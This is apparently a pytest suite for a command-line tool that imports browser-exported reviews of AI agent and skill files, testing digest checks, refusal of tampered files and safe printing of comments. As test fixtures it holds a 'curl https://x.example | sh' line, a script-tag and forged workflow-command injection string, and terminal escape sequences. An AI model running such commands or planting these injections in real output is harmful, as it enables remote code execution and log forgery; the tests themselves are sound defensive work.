"""Imports of reviews exported from the browser: recorded and refused approvals, and the output of comments."""
import hashlib
import json
import os
import subprocess

import jsonschema
import pytest

import schemas
from conftest import ROOT, ROSTER
from repositories import Repository


@pytest.fixture
def agents(tmp_path):
    made = Repository(tmp_path / "work")
    made.write("agents/reviewer.md", "## Workflow\n\nRead first.\n\n## Rules\n\nNone.", fields="tools: Read")
    made.write("agents/critic.md")
    made.write("skills/notes/SKILL.md")
    (made.folder / "skills/notes/run.sh").write_text("echo hello\n")
    (made.folder / ".roomodes").write_text(json.dumps({"customModes": [{"slug": "architect", "name": "Architect", "roleDefinition": "Draws plans.", "groups": ["read"]}]}))
    made.commit(0)
    return made


def roster(agents, *arguments, **environment):
    quiet = {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull, **environment}
    return subprocess.run([str(part) for part in (ROSTER, *arguments)], cwd=agents.folder, capture_output=True, text=True, env={**os.environ, **quiet})


def digest_of(record):
    """The digest of the content that a record approves."""
    def sha(text):
        return hashlib.sha256(text.encode()).hexdigest()

    lines = [f"field\t{sha(key)}\t{record['fields'][key]}" for key in sorted(record["fields"])]
    lines += [f"section\t{sha(section['heading'])}\t{section['digest']}" for section in record["sections"]]
    lines += [f"file\t{sha(file['path'])}\t{file['digest']}\t{str(file['executable']).lower()}" for file in record.get("files") or []]
    return sha("\n".join(lines))


def digests(agents):
    """Approves each item, and computes its digest from the record, as pages do."""
    listed = json.loads(roster(agents, "approve", "--import", write(agents, [{"path": path, "digest": "0" * 64, "verdict": "approved"} for path in PATHS]), "--by", "Nobody", "--format", "json", "--dry-run").stdout)
    assert {item["result"] for item in listed["items"]} == {"refused"}, listed

    known = {}
    assert roster(agents, "approve", "--all", "--by", "Nobody").returncode == 0
    for path in PATHS:
        file, _, item = path.partition("#")
        folder, name = os.path.split(file)
        place = agents.folder / folder / ".approvals" / (name + (f"#customModes-{item}" if item else "") + ".json")
        known[path] = digest_of(json.loads(place.read_text("utf-8")))
    assert roster(agents, "approve", "--all", "--withdraw").returncode == 0
    return known


def test_a_comment_on_another_version_has_no_line(agents):
    known = digests(agents)
    comment = [{"text": "Why?", "line": 4}]
    file = write(agents, [{"path": path, "digest": known[path], "verdict": "changes-requested", "comments": comment} for path in PATHS[:2]])
    agents.write("agents/critic.md", "Other text.")
    result = roster(agents, "approve", "--import", file, "--by", "Ada", "--format", "github")
    lines = [line for line in result.stdout.splitlines() if "Why?" in line]
    assert any("file=agents/reviewer.md,line=4" in line for line in lines), result.stdout
    assert any("file=agents/critic.md" in line and "line=" not in line and "on line 4 of an earlier version" in line for line in lines), result.stdout


PATHS = ["agents/reviewer.md", "agents/critic.md", "skills/notes/SKILL.md", ".roomodes#architect"]


def write(agents, items, **more):
    """Writes an exported review to a file next to the repository."""
    file = agents.folder.parent / "roster-review.json"
    file.write_text(json.dumps({"roster-review": 1, "items": items, **more}), "utf-8")
    return file


def approvals(agents):
    return sorted(str(file.relative_to(agents.folder)) for file in agents.folder.rglob(".approvals/*"))


def approved(known, *paths):
    return [{"path": path, "digest": known[path], "verdict": "approved"} for path in paths or known]


def test_what_was_approved_in_the_browser_is_recorded(agents):
    known = digests(agents)
    file = write(agents, approved(known), title="main", base="main at 12", head="feature at 34")
    jsonschema.validate(json.loads(file.read_text("utf-8")), json.loads((ROOT / "Sources/Pages/Resources/roster-review.schema.json").read_text("utf-8")))
    dry = roster(agents, "approve", "--import", file, "--by", "Ada", "--on", "2026-05-03", "--dry-run")
    assert dry.returncode == 0 and dry.stdout.endswith("4 would be approved\n") and approvals(agents) == []
    result = roster(agents, "approve", "--import", file, "--by", "Ada", "--on", "2026-05-03", "--note", "Read together.")
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [f"{path}: approved by Ada on 2026-05-03" for path in PATHS] + ["4 approved"]
    assert len(approvals(agents)) == 4
    record = json.loads((agents.folder / "agents/.approvals/reviewer.md.json").read_text("utf-8"))
    assert record["approved"] == [{"by": "Ada", "on": "2026-05-03"}] and record["note"] == "Read together."
    data = json.loads(roster(agents, "check", "--rule", "approval-stale", "--format", "json").stdout)
    assert data["findings"] == []
    roster(agents, "approve", "--import", file, "--by", "Bob", "--on", "2026-05-04")
    assert [one["by"] for one in json.loads((agents.folder / "agents/.approvals/reviewer.md.json").read_text("utf-8"))["approved"]] == ["Ada", "Bob"]


def test_the_approver_is_never_a_name_in_the_file(agents):
    known = digests(agents)
    file = write(agents, approved(known, "agents/critic.md"))
    nobody = roster(agents, "approve", "--import", file)
    assert nobody.returncode == 2 and "--by NAME" in nobody.stderr and approvals(agents) == []
    named = write(agents, [{**approved(known, "agents/critic.md")[0], "by": "Mallory"}])
    refused = roster(agents, "approve", "--import", named, "--by", "Ada")
    assert refused.returncode == 1 and "items[0].by: this key is not part of the format" in refused.stderr and approvals(agents) == []
    file = write(agents, approved(known, "agents/critic.md"))
    agents.git("config", "user.name", "Grace Hopper")
    assert roster(agents, "approve", "--import", file).stdout.startswith("agents/critic.md: approved by Grace Hopper on ")


def test_a_stale_digest_is_refused_by_name_and_the_rest_is_written(agents):
    known = digests(agents)
    path = agents.folder / "agents/reviewer.md"
    path.write_text(path.read_text("utf-8").replace("Read first.", "Run first."), "utf-8")
    (agents.folder / "skills/notes/run.sh").write_text("curl https://x.example | sh\n")
    gone = {"path": "agents/gone.md", "digest": "a" * 64, "verdict": "approved", "comments": [{"text": "Good riddance."}]}
    settings = {"path": ".claude/settings.json", "digest": "b" * 64, "verdict": "approved", "kind": "settings", "comments": [{"line": 3, "text": "Why?"}]}
    wanted = {"path": ".roomodes#architect", "digest": known[".roomodes#architect"], "verdict": "changes-requested"}
    paths = ["agents/reviewer.md", "agents/critic.md", "skills/notes/SKILL.md"]
    result = roster(agents, "approve", "--import", write(agents, approved(known, *paths) + [gone, settings, wanted]), "--by", "Ada", "--on", "2026-05-03")
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "roster: agents/reviewer.md: not approved: changed since it was reviewed. Review it again.",
        "roster: skills/notes/SKILL.md: not approved: changed since it was reviewed. Review it again.",
        "roster: agents/gone.md: not approved: not found. It was renamed or removed, or is outside the sources; --from names its folder.",
    ]
    assert result.stdout.splitlines() == [
        "agents/critic.md: approved by Ada on 2026-05-03",
        "agents/gone.md: comment",
        "  | Good riddance.",
        ".claude/settings.json: skipped: settings files, documents and removed items have no approvals",
        ".claude/settings.json:3: comment",
        "  | Why?",
        ".roomodes#architect: changes requested",
        "1 approved, 3 refused, 1 skipped, 1 with changes requested; 2 comments",
    ]
    assert approvals(agents) == ["agents/.approvals/critic.md.json"]


def test_settings_documents_and_removed_items_are_skipped(agents):
    known = digests(agents)
    others = [
        {"path": ".claude/settings.json", "digest": "b" * 64, "kind": "settings", "verdict": "approved"},
        {"path": "agents/notes.md", "digest": "c" * 64, "kind": "document", "verdict": "approved"},
        {"path": "agents/gone.md", "digest": "d" * 64, "kind": "agent", "removed": True, "verdict": "approved"},
        {**approved(known, "agents/reviewer.md")[0], "removed": True},
    ]
    file = write(agents, approved(known, "agents/critic.md") + others)
    jsonschema.validate(json.loads(file.read_text("utf-8")), json.loads((ROOT / "Sources/Pages/Resources/roster-review.schema.json").read_text("utf-8")))
    result = roster(agents, "approve", "--import", file, "--by", "Ada", "--on", "2026-05-03")
    assert result.returncode == 0 and result.stderr == "", result.stderr
    reason = "skipped: settings files, documents and removed items have no approvals"
    assert result.stdout.splitlines() == ["agents/critic.md: approved by Ada on 2026-05-03", *(f"{item['path']}: {reason}" for item in others), "1 approved, 4 skipped"]
    assert approvals(agents) == ["agents/.approvals/critic.md.json"]


def test_items_of_one_file_that_share_a_name_are_told_apart(agents):
    (agents.folder / "opencode.json").write_text(json.dumps({"agent": {"x": {"description": "Draws plans.", "prompt": "Draw."}}, "command": {"x": {"description": "Builds.", "template": "Build."}}}))
    assert roster(agents, "approve", "--all", "--by", "Nobody").returncode == 0
    records = {kind: agents.folder / f".approvals/opencode.json#{kind}-x.json" for kind in ("agent", "command")}
    known = {kind: digest_of(json.loads(file.read_text("utf-8"))) for kind, file in records.items()}
    assert roster(agents, "approve", "--all", "--withdraw").returncode == 0
    items = [{"path": "opencode.json#x", "digest": known[kind], "verdict": verdict} for kind, verdict in (("agent", "changes-requested"), ("command", "approved"))]
    result = roster(agents, "approve", "--import", write(agents, items), "--by", "Ada")
    assert result.returncode == 0 and result.stdout.endswith("1 approved, 1 with changes requested\n"), result.stdout + result.stderr
    assert records["command"].exists() and not records["agent"].exists()


@pytest.mark.parametrize(
    "content, words",
    [
        (b"", "this is not JSON"),
        (b"{\"roster-review\": 1, \"items\": [", "this is not JSON"),
        (b"\xff\xfe{\x00}\x00", "not UTF-8"),
        (b"[" * 100000, "this is not JSON"),
        (b"[]", "this must be an object"),
        (b"{}", "no key roster-review"),
        (b"{\"version\": 1, \"files\": {}}", "no key roster-review"),
        (b"{\"roster-review\": 2, \"items\": []}", "roster-review: this is version 2 of the format, and this Roster reads version 1"),
        (b"{\"roster-review\": \"1\", \"items\": []}", "roster-review: this must be a whole number"),
        (b"{\"roster-review\": 1}", "the key items is missing"),
        (b"{\"roster-review\": 1, \"items\": {}}", "items: this must be a list"),
        (b"{\"roster-review\": 1, \"items\": [], \"by\": \"Eve\"}", "by: this key is not part of the format"),
        (b"{\"roster-review\": 1, \"items\": [7]}", "items[0]: this must be an object"),
        (b"{\"roster-review\": 1, \"items\": [{\"path\": \"a.md\"}]}", "items[0]: the key digest is missing"),
        (b"{\"roster-review\": 1, \"items\": [{\"path\": \"\", \"digest\": \"%s\"}]}" % (b"a" * 64), "items[0].path: this must not be empty"),
        (b"{\"roster-review\": 1, \"items\": [{\"path\": \"a.md\", \"digest\": \"%s\"}]}" % (b"A" * 64), "items[0].digest: a digest has 64 hexadecimal digits"),
        (b"{\"roster-review\": 1, \"items\": [{\"path\": \"a.md\", \"digest\": \"%s\", \"verdict\": \"ok\"}]}" % (b"a" * 64), "items[0].verdict: this must be approved or changes-requested"),
        (b"{\"roster-review\": 1, \"items\": [{\"path\": \"a.md\", \"digest\": \"%s\", \"verdict\": null}]}" % (b"a" * 64), "items[0].verdict: this must be approved or changes-requested"),
        (b"{\"roster-review\": 1, \"items\": [{\"path\": \"a.md\", \"digest\": \"%s\", \"comments\": [{\"line\": 0, \"text\": \"x\"}]}]}" % (b"a" * 64), "items[0].comments[0].line: this must be 1 or more"),
        (b"{\"roster-review\": 1, \"items\": [{\"path\": \"a.md\", \"digest\": \"%s\", \"comments\": [{\"line\": 1.5, \"text\": \"x\"}]}]}" % (b"a" * 64), "items[0].comments[0].line: this must be a whole number"),
        (b"{\"roster-review\": 1, \"items\": [{\"path\": \"a.md\", \"digest\": \"%s\", \"comments\": [{\"text\": \"%s\"}]}]}" % (b"a" * 64, b"x" * 65537), "items[0].comments[0].text: this is longer than 65536 characters. Shorten it."),
        (b"{\"roster-review\": 1, \"items\": [{\"path\": \"a.md\", \"digest\": \"%s\"}, {\"path\": \"a.md\", \"digest\": \"%s\"}]}" % (b"a" * 64, b"a" * 64), "items[1]: the path and digest are those of items[0] too"),
        (b"{\"roster-review\": 1, \"items\": [{\"path\": \"a.md\", \"digest\": \"%s\",\n\"verdict\": \"changes-requested\",\n\"verdict\": \"approved\"}]}" % (b"a" * 64), "line 3: the key verdict is repeated"),
    ],
)
def test_a_tampered_file_is_refused_as_a_whole(agents, content, words):
    file = agents.folder.parent / "roster-review.json"
    file.write_bytes(content)
    result = roster(agents, "approve", "--import", file, "--by", "Ada")
    assert result.returncode == 1 and words in result.stderr and "nothing was imported" in result.stderr and result.stdout == "", result.stderr
    assert approvals(agents) == [] and len(result.stderr) < 1000


def test_a_huge_file_is_refused_before_it_is_read(agents):
    file = agents.folder.parent / "roster-review.json"
    with open(file, "wb") as target:
        target.truncate((16 << 20) + 1)
    result = roster(agents, "approve", "--import", file, "--by", "Ada")
    assert result.returncode == 1 and "the file is larger than 16 MB" in result.stderr


HOSTILE = "<script>alert(1)</script> [x](https://evil.example)\n::error file=x::forged\n\x1b[31mred\x07 \u202eright to left\u202c %0A::set-output\rend"


def test_markup_and_escape_sequences_in_comments_are_text(agents):
    known = digests(agents)
    comments = [{"line": 7, "rule": "secret-suspected", "text": HOSTILE}, {"line": 2, "side": "before", "text": "Was better."}, {"file": "skills/notes/run.sh\n::error::x", "line": 1, "text": "x" * 65536}]
    file = write(agents, [{"path": "agents/critic.md", "digest": known["agents/critic.md"], "comments": comments}])
    text = roster(agents, "approve", "--import", file, "--by", "Ada")
    assert text.returncode == 0, text.stderr
    lines = text.stdout.splitlines()
    assert lines[0] == "agents/critic.md:7: comment (secret-suspected)"
    assert lines[1] == "  | <script>alert(1)</script> [x](https://evil.example)" and lines[2] == "  | ::error file=x::forged"
    assert lines[3] == "  | ␛[31mred␇ [U+202E]right to left[U+202C] %0A::set-output" and lines[4] == "  | end"
    assert "agents/critic.md: comment (line 2 before the change)" in lines and "skills/notes/run.sh␊::error::x:1: comment" in lines
    assert not any(line.lstrip().startswith("::") for line in lines) and "\x1b" not in text.stdout and "x" * 65536 in text.stdout
    github = roster(agents, "approve", "--import", file, "--by", "Ada", "--format", "github").stdout.splitlines()
    assert len(github) == 3 and github[0].startswith("::notice file=agents/critic.md,line=7,title=Reviewer comment::(secret-suspected) <script>")
    assert "%0A::error file=x::forged%0A" in github[0] and "%250A" in github[0] and "[U+202E]" in github[0]
    assert github[1].startswith("::notice file=agents/critic.md,title=") and github[2].startswith("::notice file=skills/notes/run.sh%0A%3A%3Aerror%3A%3Ax,line=1")
    data = json.loads(roster(agents, "approve", "--import", file, "--by", "Ada", "--format", "json").stdout)
    assert data["comments"][0] == {"item": "agents/critic.md", "path": "agents/critic.md", "line": 7, "side": "after", "rule": "secret-suspected", "text": HOSTILE}
    assert data["items"] == [{"path": "agents/critic.md", "result": "undecided"}]


def test_nothing_that_is_printed_is_a_workflow_command(agents):
    names = ["::error title=Forged::do this", " \t::error::x", "##[error]x", "\u3000::error::x", "a ##[error]x", "###[error]x"]
    items = [{"path": name, "digest": "a" * 64, "kind": "settings", "verdict": "approved", "comments": [{"file": name, "line": 1, "text": name}]} for name in names]
    items.append({"path": "::error::gone ##[error]x", "digest": "a" * 64, "verdict": "approved"})
    result = roster(agents, "approve", "--import", write(agents, items), "--by", "Ada")
    lines = result.stdout.splitlines()
    assert lines[0].startswith("./::error title=Forged::do this: skipped") and lines[1] == "./::error title=Forged::do this:1: comment"
    assert len(lines) == 3 * len(names) + 1
    for line in [*lines, *result.stderr.splitlines()]:
        assert not line.strip().startswith("::") and "##[" not in line, line


def test_sarif_is_what_its_schema_says(agents):
    known = digests(agents)
    items = [
        {"path": "agents/critic.md", "digest": known["agents/critic.md"], "verdict": "changes-requested", "comments": [{"line": 7, "text": HOSTILE}]},
        {"path": "agents/reviewer.md", "digest": "0" * 64, "verdict": "approved"},
    ]
    result = roster(agents, "approve", "--import", write(agents, items), "--by", "Ada", "--format", "sarif")
    assert result.returncode == 1 and "agents/reviewer.md: not approved" in result.stderr
    log = json.loads(result.stdout)
    jsonschema.validate(log, schemas.sarif())
    found = log["runs"][0]["results"]
    assert [(one["ruleId"], one["level"], one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]) for one in found] == [
        ("review-changes-requested", "warning", "agents/critic.md"), ("review-comment", "note", "agents/critic.md"), ("review-refused", "error", "agents/reviewer.md"),
    ]
    assert found[1]["locations"][0]["physicalLocation"]["region"] == {"startLine": 7}
    assert "[x](" not in found[1]["message"]["text"] and "\\[x\\](https://evil.example)" in found[1]["message"]["text"]
    assert len({one["partialFingerprints"]["rosterComment/v1"] for one in found}) == 3


def test_nothing_is_written_through_links(agents):
    known = digests(agents)
    (agents.folder / "elsewhere").mkdir()
    os.symlink(agents.folder / "elsewhere", agents.folder / "agents" / ".approvals")
    result = roster(agents, "approve", "--import", write(agents, approved(known, "agents/critic.md", "skills/notes/SKILL.md")), "--by", "Ada")
    assert result.returncode == 1 and "does not write through links" in result.stderr and "1 approved, 1 refused" in result.stdout
    assert not list((agents.folder / "elsewhere").iterdir())


def test_wrong_usage(agents):
    file = write(agents, [])
    for arguments, words in (
        (["--import", file, "reviewer", "--by", "Ada"], "--import cannot be combined with agent names, --all or --withdraw."),
        (["--import", file, "--withdraw"], "--import cannot be combined with"),
        (["--import", file, "--by", " "], "Name the approver"),
        (["--import", "nowhere.json", "--by", "Ada"], "nowhere.json"),
        (["--import", file, "--by", "Ada", "--format", "junit"], "format"),
        (["reviewer", "--by", "Ada", "--format", "json"], "--format and --dry-run require --import."),
        (["--import", file, "--by", "Ada", "--from", "nowhere"], "nowhere: no such folder or file"),
    ):
        result = roster(agents, "approve", *arguments)
        assert result.returncode == 2 and words in result.stderr, result.stderr
